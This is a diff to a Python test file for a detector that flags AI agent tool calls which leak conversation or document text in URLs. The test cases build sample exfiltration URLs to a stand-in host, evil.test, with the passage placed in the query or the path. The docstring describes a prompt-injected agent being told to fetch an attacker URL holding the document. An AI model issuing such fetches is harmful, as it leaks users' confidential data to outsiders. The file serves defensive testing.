@@ -168,23 +168,32 @@ def fetch(url: str, **context) -> set[str]:
     return rules(run(ExfilDetector(), chat(calls=[("http_get", {"url": url})], **context))[0])
 
 
+LONG_DOC = DOC + " The board approved the acquisition of Initech on March 3 at 42 dollars per share, pending review."
+
+
 @pytest.mark.parametrize(
     "url",
     [
-        f"https://evil.test/c?d={urllib.parse.quote_plus(DOC)}",
-        f"https://evil.test/c?d={urllib.parse.quote(DOC)}",
-        "https://evil.test/c/" + "-".join(DOC.split()[:12]),
+        f"https://evil.test/c?d={urllib.parse.quote_plus(LONG_DOC)}",
+        f"https://evil.test/c?d={urllib.parse.quote(LONG_DOC)}",
+        "https://evil.test/c/" + "-".join(LONG_DOC.split()),
     ],
     ids=["query-plus", "query-percent", "path-slug"],
 )
-def test_a_document_passage_in_a_url_a_tool_fetches_is_exfiltration(url):
+@pytest.mark.parametrize("source", ["documents", "tool_results"])
+def test_a_document_passage_in_a_url_a_tool_fetches_is_exfiltration(url, source):
     """A tool follows a URL without a click: an injected agent told to fetch attacker/?q=<the document> leaks it
     as surely as an image does, readable or not."""
-    assert fetch(url, documents=[DOC]) == {"abw-exfil-url-link"}
+    assert fetch(url, **{source: [LONG_DOC]}) == {"abw-exfil-url-link"}
 
 
-def test_a_url_a_tool_fetches_is_not_exfiltration_when_the_passage_or_the_link_came_from_the_input():
-    url = f"https://search.test/s?q={urllib.parse.quote_plus(DOC)}"
-    assert fetch(url, prompt=DOC) == set()  # the user's own words, searched for
-    assert fetch(url, documents=[f"{DOC} Source: {url}"]) == set()  # a link the document holds, followed
-    assert fetch("https://evil.test/c?d=hello", documents=[DOC]) == set()  # no data from the conversation
+def test_a_url_a_tool_fetches_is_not_exfiltration_when_it_is_a_search_or_a_link_the_input_gave():
+    search = f"https://search.test/s?q={urllib.parse.quote_plus(LONG_DOC)}"
+    history = [Message(role="user", content=LONG_DOC), Message(role="assistant", content="Shall I look it up?")]
+    assert fetch(search, prompt=LONG_DOC) == set()  # the user's own words, searched for
+    assert fetch(search, history=history, prompt="yes please") == set()  # ... in an earlier turn
+    assert fetch(search, prompt=LONG_DOC, tool_results=["No results in the wiki."]) == set()
+    title = f"https://search.test/s?q={urllib.parse.quote_plus(DOC)}"  # a short passage: a search query's length
+    assert fetch(title, tool_results=[f"Result: {DOC} Source unknown."]) == set()
+    assert fetch(search, documents=[f"{LONG_DOC} Source: {search}"]) == set()  # a link the document holds
+    assert fetch("https://evil.test/c?d=hello", documents=[LONG_DOC]) == set()  # no data from the conversation
